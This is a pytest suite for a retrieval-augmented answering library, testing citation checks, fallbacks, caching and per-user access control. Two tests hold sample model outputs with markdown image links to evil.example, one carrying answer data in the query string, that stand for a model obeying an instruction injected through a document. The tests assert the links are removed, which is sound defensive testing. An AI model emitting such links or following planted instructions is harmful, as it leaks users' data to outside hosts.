"""From a question to a checked answer, over a real index, with models that write well, badly, or not at all."""

from __future__ import annotations

from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass, field, replace
from pathlib import Path

import anyio
import pytest
from markdown_it import MarkdownIt

from corpus.access import Caller
from corpus.errors import DocumentNotFound, LLMError, Timeout
from corpus.generation.protocol import Generated, Prompt
from corpus.index.local import LocalIndex
from corpus.index.protocol import NewBlock
from corpus.library import Library
from corpus.synthesis.answer import Synthesis
from corpus.synthesis.answerability import UNSURE
from corpus.synthesis.prompting import Instructions
from corpus.synthesis.request import Observation, SynthesisRequest, Turn
from corpus.synthesis.writer import Pen
from tests.patience import PATIENCE
from tests.shelf import PICTURE, a_document
from tests.values import image_block, text_block

pytestmark = pytest.mark.anyio

ANN, BOB = Caller(user_id="ann"), Caller(user_id="bob")
PUMP = text_block("The pump turns at 2900 revolutions per minute. It weighs 40 kg.", page=45, doc_id="pump")
SEAL = text_block("The seal of the pump lasts five years in clean water.", page=12, doc_id="seal")
FIGURE = image_block("Figure 3: Impeller of the pump", page=45, doc_id="pump", image_url=None)
HEADCOUNT = text_block("The pump team earns 90,000 a year.", page=1, doc_id="pay")


@dataclass
class Model:
    """A model that writes this text, and records its prompts."""

    writes: str | Exception = ""
    id: str = "model-1"
    asked: list[Prompt] = field(default_factory=list)

    async def generate(self, prompt: Prompt) -> Generated:
        self.asked.append(prompt)
        if isinstance(self.writes, Exception):
            raise self.writes
        return Generated(self.writes)

    async def aclose(self) -> None: ...


Shelf = Callable[..., Library]


@pytest.fixture
async def shelf(tmp_path: Path) -> AsyncIterator[Shelf]:
    """Yield a factory of libraries over one index: public documents about a pump and its seal, and one for bob
    alone."""
    index = LocalIndex.open(tmp_path, None)
    for name, blocks, readers in (
        ("pump", [PUMP, FIGURE], "*"), ("seal", [SEAL], "*"), ("pay", [HEADCOUNT], "user:bob"),
    ):  # fmt: skip
        rows = [replace(block, access_control_list=(readers,)) for block in blocks]
        pictured = [NewBlock(row, PICTURE if row.block_type == "image" else None) for row in rows]
        await index.replace(a_document(name, access_control_list=(readers,), page_count=50), pictured)

    def made(model: Model | None = None, **changes: object) -> Library:
        pen = Pen(Instructions("Answer from the sources.", "v1"), model, **changes)  # type: ignore[arg-type]
        return Library(index, None, pen=pen)

    yield made
    await index.aclose()


def asking(query: str = "How fast does the pump turn?", **changes: object) -> SynthesisRequest:
    return SynthesisRequest(query, **changes)  # type: ignore[arg-type]


async def number_of(library: Library, model: Model, page: int) -> int:
    """Return the number under which this page is offered to the model."""
    await library.synthesize(asking(mode="llm"), ANN)
    lines = model.asked[-1].text.splitlines()
    at = next(n for n, line in enumerate(lines) if line.startswith("From: ") and line.endswith(f"S. {page}"))
    return int(lines[at - 2].strip("[]"))


async def test_without_a_model_an_answer_is_composed_and_every_claim_is_in_its_source(
    shelf: Shelf,
) -> None:
    made = await shelf().synthesize(asking(), ANN)
    assert made.mode == "compose"
    assert "2900 revolutions" in made.answer
    assert {one.verdict for one in made.claims} == {"found"}
    assert made.confidence >= 0.5


async def test_a_good_answer_of_a_model_keeps_its_citations_and_lists_its_sources(shelf: Shelf) -> None:
    model = Model()
    library = shelf(model, keep=0)
    n = await number_of(library, model, 45)
    model.writes = f"The pump turns at 2900 revolutions per minute [{n}]."
    made = await library.synthesize(asking(), ANN)
    assert (made.mode, made.model, made.prompt_version) == ("llm", "model-1", "v1")
    assert made.answer == f"{model.writes}\n\n[{n}] (Source: pump.pdf, S. 45)"
    assert [one.citation_number for one in made.sources] == [n]
    assert (made.uncited_claims, made.unsupported_claims, made.invalid_citations) == ((), (), ())
    assert made.confidence == pytest.approx(made.confidence_factors["answers"], abs=1e-4)


async def test_cited_by_source_each_claim_of_a_model_names_its_file_and_page(shelf: Shelf) -> None:
    model = Model()
    library = shelf(model, keep=0)
    n = await number_of(library, model, 45)
    model.writes = f"The pump turns at 2900 revolutions per minute [{n}]."
    made = await library.synthesize(asking(citation_style="source"), ANN)
    assert made.answer == "The pump turns at 2900 revolutions per minute (Source: pump.pdf, S. 45)."


async def test_an_invented_number_is_reported(shelf: Shelf) -> None:
    model = Model()
    library = shelf(model, keep=0)
    n = await number_of(library, model, 45)
    model.writes = f"The pump turns at 3400 revolutions per minute [{n}]."
    made = await library.synthesize(asking(), ANN)
    assert made.unsupported_claims == ("The pump turns at 3400 revolutions per minute.",)
    assert made.confidence == 0
    assert made.answer.endswith("Please check it against further sources.")


async def test_a_citation_of_no_source_is_reported(shelf: Shelf) -> None:
    made = await shelf(Model("The pump turns [77].")).synthesize(asking(), ANN)
    assert made.invalid_citations == ("77",)
    assert made.confidence == 0


async def test_an_answer_without_citations_is_reported_and_shows_the_offered_sources(shelf: Shelf) -> None:
    made = await shelf(Model("The pump turns at 2900 revolutions per minute.")).synthesize(asking(), ANN)
    assert made.uncited_claims == ("The pump turns at 2900 revolutions per minute.",)
    assert made.sources
    assert made.confidence == 0


async def test_not_found_in_sources_is_an_answer_without_confidence(shelf: Shelf) -> None:
    made = await shelf(Model("**Not found in sources.**")).synthesize(asking(), ANN)
    assert (made.answer, made.mode, made.confidence, made.sources) == ("Not found in sources", "llm", 0.0, ())


@pytest.mark.parametrize("failure", [LLMError("it is busy."), Timeout("no answer in 60 seconds.")])
async def test_a_failing_model_costs_only_its_text(shelf: Shelf, failure: Exception) -> None:
    made = await shelf(Model(failure)).synthesize(asking(), ANN)
    assert made.mode == "compose"
    assert "2900 revolutions" in made.answer
    assert f"model-1 wrote no answer: {failure}" in made.warnings


async def test_the_clients_model_takes_precedence_over_the_endpoint(shelf: Shelf) -> None:
    endpoint, client = Model("The pump turns [1]."), Model("It turns [1].", id="client")
    library = shelf(endpoint)
    await library.drafted(asking(), ANN)
    made = await library.synthesize(asking(), ANN, client)
    assert made.model == "client"
    assert endpoint.asked == []


async def test_a_client_that_declines_falls_through_to_the_endpoint(shelf: Shelf) -> None:
    endpoint, client = Model("It turns [1]."), Model(LLMError("it declined."), id="client")
    library = shelf(endpoint)
    await library.drafted(asking(), ANN)
    made = await library.synthesize(asking(), ANN, client)
    assert made.model == "model-1"
    assert "client wrote no answer: it declined." in made.warnings


async def test_a_draft_is_the_same_in_every_round(shelf: Shelf) -> None:
    library = shelf()
    first, second = await library.drafted(asking(), ANN), await library.drafted(asking(), ANN)
    assert first is not None
    assert first == second


async def test_there_is_no_draft_if_no_model_writes_or_nothing_was_found(shelf: Shelf) -> None:
    assert await shelf().drafted(asking(mode="compose"), ANN) is None
    assert await shelf().drafted(asking("zzyzx"), ANN) is None


async def test_a_right_lost_while_the_clients_model_wrote_costs_its_answer(shelf: Shelf) -> None:
    library, client = shelf(), Model("The pump team earns 90,000 a year [1].", id="client")
    await library.drafted(asking("What does the pump team earn?"), BOB)
    index = library._index
    assert isinstance(index, LocalIndex)
    row = replace(HEADCOUNT, access_control_list=("user:carl",))
    await index.replace(a_document("pay", access_control_list=("user:carl",)), [NewBlock(row)])
    made = await library.synthesize(asking("What does the pump team earn?"), BOB, client)
    assert "90,000" not in made.answer
    assert not client.asked


async def test_a_short_question_is_understood_from_the_previous_one(shelf: Shelf) -> None:
    before = (Turn("user", "Tell me of the seal in clean water."), Turn("assistant", "It is a seal."))
    made = await shelf().synthesize(asking("How long does it last?", history=before), ANN)
    assert "lasts five years" in made.answer


async def test_several_short_questions_in_a_row_are_understood_from_the_first(shelf: Shelf) -> None:
    before = (Turn("user", "Tell me all of the seal in clean water."), Turn("user", "And what of it?"))
    made = await shelf().synthesize(asking("How long does it last?", history=before), ANN)
    assert "lasts five years" in made.answer


async def test_a_doubtful_answer_begins_with_the_doubt(shelf: Shelf) -> None:
    queries = ("How long does the seal last?", "Is the seal of the pump red?", "Which seal is near the pump?")
    doubtful = 0
    for query in queries:
        made = await shelf().synthesize(asking(query), ANN)
        begins = made.answer.split("\n\n")[1].startswith("Your documents may not answer this question.")
        assert begins is (made.answered and made.confidence < UNSURE)
        doubtful += begins
    assert 0 < doubtful < len(queries)


async def test_if_nothing_answers_the_reply_says_so_and_quotes_the_closest_text(
    shelf: Shelf,
) -> None:
    made = await shelf().synthesize(asking("How fast does the pump Grundfos XR-900 turn?"), ANN)
    parts = made.answer.split("\n\n")
    assert parts[1] == (
        "Your documents do not seem to answer this question. Nothing in what was found mentions “Grundfos”, “XR-900”."
    )
    assert parts[2] == "**What comes nearest**"
    assert "“The pump turns at 2900 revolutions per minute.” *(Source: pump.pdf, S. 45)*" in parts[3]
    assert (made.answered, made.confidence, made.claims) == (False, 0.0, ())
    assert made.confidence_factors["answers"] < 0.25
    german = await shelf().synthesize(asking("Wie schnell ist die pump Grundfos XR-900?"), ANN)
    assert german.answer.split("\n\n")[1] == (
        "Nichts in den Dokumenten scheint diese Frage zu beantworten. Nichts, was gefunden wurde, erwähnt „XR-900“."
    )


async def test_an_answer_warns_of_ocr_only_for_the_sources_that_it_cites(shelf: Shelf) -> None:
    library = shelf()
    index = library._index
    assert isinstance(index, LocalIndex)
    scan = replace(text_block("The pump stands in the cellar.", page=3, doc_id="scan"), block_id="scan-p3-ocr1")
    await index.replace(a_document("scan", page_count=3), [NewBlock(scan)])
    searched = await library.search("How fast does the pump turn?", ANN)
    assert any("text recognition" in warning for warning in searched.warnings)
    made = await library.synthesize(asking(), ANN)
    assert "2900" in made.answer
    assert not [warning for warning in made.warnings if "text recognition" in warning]
    of_scan = await library.synthesize(asking("Where does the pump stand?"), ANN)
    assert "cellar" in of_scan.answer
    assert [warning for warning in of_scan.warnings if "scan.pdf page 3" in warning]


async def test_a_draft_is_written_from_currently_readable_documents(shelf: Shelf) -> None:
    library = shelf()
    question = asking("What does the pump team earn?")
    first = await library.drafted(question, BOB)
    assert first is not None
    assert "90,000" in first.prompt.text
    index = library._index
    assert isinstance(index, LocalIndex)
    row = replace(HEADCOUNT, access_control_list=("user:carl",))
    await index.replace(a_document("pay", access_control_list=("user:carl",)), [NewBlock(row)])
    second = await library.drafted(question, BOB)
    assert second is None or "90,000" not in second.prompt.text


async def test_a_text_that_changed_while_the_clients_model_wrote_costs_its_answer(shelf: Shelf) -> None:
    library, client = shelf(), Model("The pump turns at 2900 revolutions per minute [1].", id="client")
    await library.drafted(asking(), ANN)
    index = library._index
    assert isinstance(index, LocalIndex)
    changed = replace(PUMP, content="The pump turns at 3000 revolutions per minute.", access_control_list=("*",))
    await index.replace(a_document("pump"), [NewBlock(changed)])
    made = await library.synthesize(asking(), ANN, client)
    assert "2900" not in made.answer
    assert "The sources changed while the answer was written, so it is not given." in made.warnings


async def test_a_text_by_one_clients_model_is_given_to_no_other_client(shelf: Shelf) -> None:
    library, client = shelf(Model("The pump turns [1].")), Model("It turns [1].", id="client")
    await library.drafted(asking(), ANN)
    assert (await library.synthesize(asking(), ANN, client)).model == "client"
    other = await library.synthesize(asking(), ANN)
    assert (other.model, other.cached) == ("model-1", False)


@pytest.mark.parametrize("failure", [RuntimeError("x"), KeyError("x"), TimeoutError(), OSError("x")])
async def test_a_writer_that_fails_unexpectedly_costs_only_its_text(shelf: Shelf, failure: Exception) -> None:
    made = await shelf(Model(failure)).synthesize(asking(), ANN)
    assert made.mode == "compose"
    assert "2900 revolutions" in made.answer


async def test_a_failing_check_leaves_the_composed_answer(shelf: Shelf, monkeypatch: pytest.MonkeyPatch) -> None:
    def fails(*_: object) -> None:
        raise RuntimeError

    monkeypatch.setattr("corpus.synthesis.model_answer.sanitize_markdown", fails)
    made = await shelf(Model("It turns [1].")).synthesize(asking(), ANN)
    assert made.mode == "compose"
    assert "model-1 wrote an answer that could not be checked." in made.warnings


async def test_a_reported_marker_in_a_code_span_cannot_inject_an_image(shelf: Shelf) -> None:
    hostile = "It turns (Source: pump.pdf, S. 45 ` ) now ![x](https://evil.example/p.png) ` end."
    made = await shelf(Model(hostile)).synthesize(asking(citation_style="source"), ANN)
    images = [one for token in MarkdownIt().parse(made.answer) for one in token.children or () if one.type == "image"]
    assert images == []


async def test_relevant_observations_come_first(shelf: Shelf) -> None:
    seen = (
        Observation(
            "At the station the pump stood still at an outside temperature of 14 degrees.",
            "https://w.example/x",
        ),
    )
    asked = asking("What was the outside temperature at the station?", observations=seen)
    made = await shelf().synthesize(asked, ANN)
    assert "14 degrees" in made.answer.split("*(Source:")[0]


async def test_the_flaws_of_a_models_answer_are_reported_in_words(shelf: Shelf) -> None:
    flawed = "The pump turns [1]. It costs 77 euros [1]. It shines. It is new [99]."
    made = await shelf(Model(flawed)).synthesize(asking(), ANN)
    assert "Claims that do not stand in the sources that they cite: 1 of 4." in made.warnings
    assert "Claims without a citation: 1 of 4." in made.warnings
    assert "Citations of no source: 99." in made.warnings


async def test_a_requested_but_missing_model_is_reported(shelf: Shelf) -> None:
    made = await shelf().synthesize(asking(mode="llm"), ANN)
    assert made.mode == "compose"
    assert any("RAG_LLM_MODEL" in one for one in made.warnings)


async def test_compose_uses_no_model(shelf: Shelf) -> None:
    model = Model("no")
    assert (await shelf(model).synthesize(asking(mode="compose"), ANN)).mode == "compose"
    assert model.asked == []


async def test_a_written_answer_is_reused_and_says_so(shelf: Shelf) -> None:
    model = Model("It turns [1].")
    library = shelf(model)
    first, again = [await library.synthesize(asking(), ANN) for _ in range(2)]
    assert (first.cached, again.cached) == (False, True)
    assert replace(again, cached=False) == first
    assert len(model.asked) == 1


@dataclass
class Slow(Model):
    """A model that writes when it is told to."""

    go: anyio.Event = field(default_factory=anyio.Event)

    async def generate(self, prompt: Prompt) -> Generated:
        self.asked.append(prompt)
        await self.go.wait()
        if isinstance(self.writes, Exception):
            raise self.writes
        return Generated(self.writes)


async def all_at_once(
    library: Library,
    model: Slow,
    callers: list[Caller],
    meanwhile: Callable[[], Awaitable[None]] | None = None,
) -> list[Synthesis]:
    """Return all answers to one question. The model writes once all callers wait for it."""
    made: dict[int, Synthesis] = {}

    async def ask(n: int, caller: Caller) -> None:
        made[n] = await library.synthesize(asking("What does the pump team earn? How fast does it turn?"), caller)

    async with anyio.create_task_group() as group:
        for n, caller in enumerate(callers):
            group.start_soon(ask, n, caller)
        waiting = library._synthesizer._flights._running
        with anyio.fail_after(PATIENCE):
            while len(model.asked) < len(set(callers)) or sum(
                one.landed.statistics().tasks_waiting for one in waiting.values()
            ) < len(callers) - len(set(callers)):
                await anyio.sleep(0.01)
        if meanwhile:
            await meanwhile()
        model.go.set()
    return [made[n] for n in range(len(callers))]


async def test_ten_equal_concurrent_questions_are_written_once(shelf: Shelf) -> None:
    model = Slow("The pump turns [1].")
    made = await all_at_once(shelf(model, keep=0), model, [ANN] * 10)
    assert len(model.asked) == 1
    assert {one.model for one in made} == {"model-1"}
    assert len({one.answer for one in made}) == 1


async def test_two_callers_with_the_same_concurrent_question_share_nothing(shelf: Shelf) -> None:
    model = Slow("The pump team earns 90,000 a year [1].")
    await all_at_once(shelf(model), model, [ANN, BOB, ANN])
    assert len(model.asked) == 2
    assert sum("90,000" in one.text for one in model.asked) == 1


async def test_a_right_lost_while_several_wait_costs_each_of_them_the_answer(shelf: Shelf) -> None:
    model = Slow("The pump team earns 90,000 a year [1].")
    library = shelf(model)
    index = library._index
    assert isinstance(index, LocalIndex)

    async def taken_away() -> None:
        row = replace(HEADCOUNT, access_control_list=("user:carl",))
        await index.replace(a_document("pay", access_control_list=("user:carl",)), [NewBlock(row)])

    for made in await all_at_once(library, model, [BOB] * 3, taken_away):
        assert "90,000" not in made.answer
        assert "The sources changed while the answer was written, so it is not given." in made.warnings


async def test_a_failure_is_reported_to_all_waiters_and_not_cached(shelf: Shelf) -> None:
    model = Slow(LLMError("it is busy."))
    library = shelf(model)
    for made in await all_at_once(library, model, [ANN] * 3):
        assert made.mode == "compose"
        assert "model-1 wrote no answer: it is busy." in made.warnings
    assert len(model.asked) == 1
    model.writes = "The pump turns [1]."
    assert (await library.synthesize(asking(), ANN)).mode == "llm"


@pytest.mark.parametrize(
    ("rubbish", "why"),
    [
        ("<html><body>502</body></html>", "HTML"),
        ('{"error": "x"}', "JSON"),
        ("no " * 200, "again and again"),
        ("I'm sorry, I can't help with that.", "declined"),
        ("\u200b", "states nothing"),
        ("Which one do you mean?", "states nothing"),
        (
            "Cheese is made of milk, and bread is made of flour [1]. Both are eaten in the evening [2].",
            "stands in any",
        ),
    ],
)
async def test_output_that_is_not_an_answer_falls_through_to_the_next_writer_with_the_reason(
    shelf: Shelf, rubbish: str, why: str
) -> None:
    client, endpoint = Model(rubbish, id="client"), Model("The pump turns [1].")
    library = shelf(endpoint, keep=60)
    await library.drafted(asking(), ANN)
    made = await library.synthesize(asking(), ANN, client)
    assert (made.mode, made.model) == ("llm", "model-1")
    (said,) = [one for one in made.warnings if one.startswith("client wrote no answer: ")]
    assert why in said


async def test_unusable_output_of_every_model_leaves_the_composed_answer_and_is_not_cached(shelf: Shelf) -> None:
    model = Model('{"error": "x"}')
    library = shelf(model)
    made = await library.synthesize(asking(), ANN)
    assert made.mode == "compose"
    assert "2900 revolutions" in made.answer
    assert "model-1 wrote no answer: its text is JSON." in made.warnings
    model.writes = "The pump turns [1]."
    assert (await library.synthesize(asking(), ANN)).mode == "llm"


async def test_a_claim_found_in_another_source_than_it_cites_is_reported_and_the_answer_kept(
    shelf: Shelf,
) -> None:
    model = Model()
    library = shelf(model, keep=0)
    n = await number_of(library, model, 12)
    model.writes = f"The pump turns at 2900 revolutions per minute [{n}]."
    made = await library.synthesize(asking(), ANN)
    assert made.mode == "llm"
    assert made.unsupported_claims == ("The pump turns at 2900 revolutions per minute.",)
    assert "(a value differs from the source)" in made.answer


async def test_an_answer_in_another_language_than_the_sources_is_not_rejected(shelf: Shelf) -> None:
    german = "Die Anlage dreht sich ziemlich schnell und ist aus schwerem Metall hergestellt worden [1]."
    made = await shelf(Model(german)).synthesize(asking("Wie schnell ist die Pumpe und wie schwer ist sie?"), ANN)
    assert made.mode == "llm"
    assert "(nicht in der genannten Quelle gefunden)" in made.answer


@pytest.mark.parametrize(
    "said",
    [
        "Not found in the provided sources.",
        "Das steht nicht in den Quellen.",
        "I couldn't find information about the colour of the pump.",
    ],
)
async def test_a_reworded_not_found_counts_as_not_found(shelf: Shelf, said: str) -> None:
    made = await shelf(Model(said)).synthesize(asking(), ANN)
    assert (made.answer, made.mode) == ("Not found in sources", "llm")


@pytest.mark.parametrize(("mode", "said"), [("llm", "Not found in sources"), ("auto", "No relevant information found")])
async def test_without_a_hit_each_mode_says_so_in_its_own_words(shelf: Shelf, mode: str, said: str) -> None:
    model = Model("Written.")
    made = await shelf(model).synthesize(asking("zebra", mode=mode), ANN)
    assert (made.answer, made.confidence, made.sources, model.asked) == (said, 0.0, (), [])


async def test_another_caller_and_a_changed_source_get_a_new_answer(shelf: Shelf) -> None:
    model = Model("It turns [1].")
    library = shelf(model)
    await library.synthesize(asking(), ANN)
    await library.synthesize(asking(), BOB)
    assert len(model.asked) == 2
    index = library._index
    assert isinstance(index, LocalIndex)
    changed = replace(PUMP, content="The pump turns at 3000 revolutions per minute.", access_control_list=("*",))
    await index.replace(a_document("pump"), [NewBlock(changed)])
    assert not (await library.synthesize(asking(), ANN)).cached


async def test_text_that_only_bob_may_read_is_in_no_prompt_of_ann(shelf: Shelf) -> None:
    model = Model("The pump turns [1].")
    library = shelf(model)
    await library.synthesize(asking("What does the pump team earn?"), ANN)
    assert "90,000" not in model.asked[0].text
    await library.synthesize(asking("What does the pump team earn?"), BOB)
    assert "90,000" in model.asked[1].text
    with pytest.raises(DocumentNotFound):
        await library.synthesize(asking(block_ids=(HEADCOUNT.block_id,)), ANN)


async def test_an_instruction_in_a_document_that_a_model_followed_loads_nothing(shelf: Shelf) -> None:
    model = Model("The pump turns [1]. ![x](https://evil.example/?q=2900) [more](https://evil.example)")
    made = await shelf(model).synthesize(asking(), ANN)
    assert "evil.example" not in made.answer
    assert any("taken out" in one for one in made.warnings)


async def test_a_figure_of_the_sources_may_be_shown(shelf: Shelf) -> None:
    url = f"rag://blocks/{FIGURE.block_id}/image"
    made = await shelf(Model(f"It turns [1].\n\n![Figure 3]({url})")).synthesize(asking(), ANN)
    assert f"![Figure 3]({url})" in made.answer


async def test_observations_are_sources_cited_by_their_address(shelf: Shelf) -> None:
    seen = (Observation("The pump is sold out until May.", "https://shop.example/pump", "Shop"),)
    made = await shelf().synthesize(asking("Is the pump sold out?", observations=seen), ANN)
    assert "sold out until May" in made.answer
    assert "[Source: https://shop.example/pump]" in made.answer


async def test_observations_alone_are_enough_for_an_answer(shelf: Shelf) -> None:
    seen = (Observation("Zyzzyva is a weevil.", "https://insects.example/z"),)
    made = await shelf().synthesize(asking("What is a zyzzyva weevil?", observations=seen), ANN)
    assert "weevil" in made.answer
    assert 0 < made.confidence <= 0.6


async def test_sources_that_did_not_fit_into_the_prompt_are_named(shelf: Shelf) -> None:
    seen = tuple(
        Observation(" ".join(f"The pump moves water {n} times {m}." for m in range(200)), f"https://a.example/{n}")
        for n in range(20)
    )
    made = await shelf(Model("It turns [1].")).synthesize(asking(observations=seen), ANN)
    assert any(one.startswith("Not shown to the model, for want of room: https://a.example/") for one in made.warnings)


async def test_a_source_list_written_by_the_model_is_not_shown_twice(shelf: Shelf) -> None:
    made = await shelf(Model("It turns [1].\n\n**Sources:**\n[1] pump.pdf\n[2] other.pdf\n")).synthesize(asking(), ANN)
    assert made.answer.count("[1]") == 2
    assert "other.pdf" not in made.answer


async def test_the_not_found_message_is_in_the_language_of_the_question(shelf: Shelf) -> None:
    made = await shelf().synthesize(asking("Wo ist der Zzyzx?"), ANN)
    assert (made.answer, made.confidence) == ("Keine passenden Informationen gefunden", 0.0)
